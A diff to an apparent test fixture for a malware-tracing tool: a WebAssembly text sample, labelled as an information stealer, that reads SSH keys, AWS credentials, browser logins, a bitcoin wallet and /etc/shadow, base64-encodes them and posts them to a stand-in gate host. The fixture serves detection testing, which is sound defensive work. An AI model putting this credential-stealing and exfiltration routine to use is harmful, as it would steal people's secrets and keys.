@@ -1,6 +1,6 @@
 ;; RUN: spoor trace % --json
 ;; WHAT: Information stealer: collects the environment and credential files, encodes them in base64 and sends them through a socket.
-;; EXPECT: verdict=MALICIOUS family=infostealer rule=collection/credentials rule=exfiltration status=exited
+;; EXPECT: verdict=MALICIOUS family=infostealer rule=collection/credentials rule=exfiltration status=exited host_text="Ci0tLSBob21l"
 (module
   (import "wasi_snapshot_preview1" "path_open" (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
   (import "wasi_snapshot_preview1" "fd_read" (func $fd_read (param i32 i32 i32 i32) (result i32)))
@@ -82,10 +82,11 @@
     (call $grab (i32.const 518) (i32.const 21))
     (call $grab (i32.const 539) (i32.const 30))
     (call $grab (i32.const 569) (i32.const 26))
-    (call $grab (i32.const 595) (i32.const 50))
-    (call $grab (i32.const 645) (i32.const 10))
-    (call $grab (i32.const 655) (i32.const 10))
-    (drop (call $send (i32.const 4) (i32.const 665) (i32.const 56)))
+    (call $grab (i32.const 595) (i32.const 44))
+    (call $grab (i32.const 639) (i32.const 29))
+    (call $grab (i32.const 668) (i32.const 10))
+    (call $grab (i32.const 678) (i32.const 10))
+    (drop (call $send (i32.const 4) (i32.const 688) (i32.const 56)))
     (call $upload (i32.const 98304) (call $base64 (i32.const 32768) (i32.sub (global.get $top) (i32.const 32768)) (i32.const 98304))))
   (data (i32.const 1024) "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
   (data (i32.const 512)
@@ -94,7 +95,8 @@
     "home/user/.ssh/id_rsa"
     "home/user/.ssh/authorized_keys"
     "home/user/.aws/credentials"
-    "home/user/.config/google-chrome/Default/Login Data"
+    "home/user/.config/browser/Default/Login Data"
+    "home/user/.bitcoin/wallet.dat"
     "etc/passwd"
     "etc/shadow"
     "POST /gate.php HTTP/1.1\r\nHost: panel.example.invalid\r\n\r\n")
